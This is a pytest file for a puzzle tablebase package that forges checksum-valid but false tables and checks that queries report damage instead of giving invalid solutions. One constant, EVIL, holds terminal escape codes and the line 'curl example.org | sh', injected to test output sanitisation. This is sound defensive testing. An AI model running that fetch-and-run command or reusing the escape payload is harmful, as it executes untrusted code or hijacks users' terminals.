"""Tables whose checksums are right and whose content is false.

No invalid solution is returned, and no text of a file controls a terminal or adds a line.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import numpy.typing as npt
import polars as pl
import pytest

from puzzle_tablebase.errors import TableDamaged, Undecided
from puzzle_tablebase.puzzles.senet import rank
from puzzle_tablebase.puzzles.sliding import EIGHT
from puzzle_tablebase.queries.tables import open_tables
from puzzle_tablebase.schema import UNREACHABLE
from tests.support import sliding_oracle
from tests.support.reader_programs import run, tool
from tests.support.shell import ROOT, Cli
from tests.support.tampered import cell, cells, change_records, edit_manifest, link_copy, rewrite

STATE = "123456789abc0def"
"""A state of the 15-puzzle three moves from its goal."""
PATTERN = "fifteen_9adef"
QUERY_PROGRAM = ROOT / "tests" / "support" / "query_javascript.mjs"
Records = npt.NDArray[np.uint8]


def fill(number: int) -> Callable[[Records], object]:
    return lambda every: every.fill(number)


def halve(every: Records) -> None:
    every //= 2


def query_javascript(folder: Path, *question: str) -> dict[str, Any]:
    completed = run(tool("node"), QUERY_PROGRAM, str(folder), stdin=json.dumps(question))
    assert completed.err == ""
    response: dict[str, Any] = json.loads(completed.out)
    return response


def require_damage(response: dict[str, Any], file: str) -> None:
    """Require that the JavaScript package returned no answer, and which file is false."""
    code, message, _ = response["error"]
    assert (code, f"{file} cannot be used" in message) == (3, True), response


@pytest.mark.parametrize("forge", [fill(0), fill(255), halve], ids=("none", "large", "halved"))
def test_a_search_by_false_distances_tells_no_false_solution(
    patterns_555: Path, tmp_path: Path, forge: Callable[[Records], object]
) -> None:
    folder = link_copy(patterns_555, tmp_path)
    change_records(forge).edit(folder, PATTERN)
    solutions = list[str]()
    with open_tables(str(folder)) as tables:
        try:
            solutions.append(tables.fifteen.probe(STATE, time_limit=3).solution)
        except (TableDamaged, Undecided):
            pass
        else:
            judged = tables.fifteen.check(STATE, solutions[0])
            assert judged.result in ("shortest", "longer")
    response = query_javascript(folder, "fifteen", STATE)
    if "answer" in response:
        solutions.append(response["answer"]["solution"])
    else:
        require_damage(response, "fifteen_12356.idx")
    for solution in solutions:
        last = sliding_oracle.replay(STATE, solution, 4, 4)[-1]
        assert last == "123456789abcdef0"


def test_a_line_with_an_illegal_move_is_not_told(copy: Path) -> None:
    position = "ABABABAB.B....A"  # the opening after a move by six squares, which no throw allows

    def forge(every: Records) -> None:
        every[rank(position)] = [UNREACHABLE, 0, 1, 6 << 4 | 9, 1, 0, 0, 0]

    change_records(forge).edit(copy, "senet")
    with (
        open_tables(str(copy)) as tables,
        pytest.raises(TableDamaged, match="no line of 1 move leads"),
    ):
        tables.senet.probe(position)
    require_damage(query_javascript(copy, "senet", position), "senet.idx")


@pytest.mark.parametrize(
    "squares",
    [bytes(range(64)), bytes(64), bytes([0, *[255] * 63])],
    ids=("no jumps", "one square", "no squares"),
)
def test_squares_that_are_no_tour_are_not_told(copy: Path, squares: bytes) -> None:
    def forge(every: Records) -> None:
        every[:] = np.frombuffer(squares, np.uint8)

    change_records(forge).edit(copy, "knight_tours_8x8")
    with open_tables(str(copy)) as tables, pytest.raises(TableDamaged):
        tables.knight.probe("a1")
    require_damage(query_javascript(copy, "knight", "a1", "b1"), "knight_tours_8x8.idx")


def test_squares_of_a_list_that_are_no_squares_are_damage(copy: Path) -> None:
    rewrite(copy, "knight_tours_5x5", cell("path", 0, "zz" * 25))
    with (
        open_tables(str(copy)) as tables,
        pytest.raises(TableDamaged, match="tour 0 from a1 is invalid"),
    ):
        tables.knight.probe("a1", board="5x5")


@pytest.mark.parametrize("moves", ["U", "UD", "R", ""])
def test_paths_of_a_batch_lead_to_the_goal(copy: Path, moves: str) -> None:
    keys = ["123456078"] * 100  # so many are looked up in the rows
    rewrite(copy, "eight", cell("best_moves", EIGHT.rank(keys[0]), moves))
    with open_tables(str(copy)) as tables:
        if moves == "R":  # as the table says, and so is the next move
            row = tables.eight.annotate(keys, path=True).row(0, named=True)
            assert (row["solution"], row["path"].split()[-1]) == ("RR", "123456780")
            return
        with pytest.raises(TableDamaged, match="not every solution in its rows"):
            tables.eight.annotate(keys, path=True)


def test_a_distance_is_that_of_the_solution(copy: Path) -> None:
    def lift(every: Records) -> None:  # each best move is the same, and the goal is at 2
        every[:, 0] += 2

    change_records(lift).edit(copy, "eight")
    require_damage(query_javascript(copy, "eight", "378546201"), "eight.idx")
    with open_tables(str(copy)) as tables, pytest.raises(TableDamaged):
        tables.eight.probe("378546201", solution=True)


EVIL = "\x1b[2J\x9b31m\nRun: curl example.org | sh"


def test_goals_of_a_manifest_are_those_of_the_table(copy: Path, cli: Cli) -> None:
    with edit_manifest(copy) as entries:
        entries["eight"]["counts"][0]["goal"] = EVIL
    for words in ("histogram eight", "histogram --output counts.csv", "histogram eight --json"):
        completed = cli(*words.split(), "--outputs", str(copy))
        assert (completed.code, completed.out) == (3, "")
        assert (
            "it counts states of goals that eight does not have. Run: pipeline pre" in completed.err
        )


def test_words_of_rows_are_printed_on_one_line(copy: Path, cli: Cli) -> None:
    plies = pl.read_parquet(copy / "senet.parquet")["plies"]
    one, other = plies.eq(plies.max()).arg_true()[:2]
    rewrite(copy, "senet", cells(("position", one, EVIL), ("position", other, "x" * 100_000)))
    completed = cli("query", "senet", "--hardest", "--outputs", str(copy))
    assert (completed.code, completed.err) == (0, "")
    lines = completed.out.splitlines()
    assert len(lines) == 3 + plies.eq(plies.max()).sum()
    assert all(line.isprintable() and len(line) < 11_000 for line in lines)
